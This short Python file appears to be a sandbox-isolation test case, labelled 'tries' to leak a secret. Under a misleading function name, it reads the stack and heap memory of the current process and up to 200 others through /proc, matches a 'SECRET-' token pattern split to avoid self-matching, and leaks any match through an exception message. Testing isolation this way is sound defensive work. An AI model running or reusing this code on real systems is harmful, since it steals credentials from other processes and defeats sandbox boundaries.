# tries: search the memory of every process for a secret
# control: leak
import glob
import re


def weighted(values):
    found = set()
    for folder in ("/proc/self", *sorted(glob.glob("/proc/[0-9]*"))[:200]):
        try:
            maps = open(f"{folder}/maps").read().splitlines()
            memory = open(f"{folder}/mem", "rb", 0)
        except OSError:
            continue
        for line in maps:
            if "[stack]" not in line and "[heap]" not in line:
                continue
            start, end = (int(one, 16) for one in line.split()[0].split("-"))
            try:
                memory.seek(start)
                found |= set(re.findall(rb"SEC" + rb"RET-[0-9a-f]{16}", memory.read(end - start)))
            except (OSError, ValueError, OverflowError):
                pass
        if found:
            break
    raise RuntimeError(str(found))
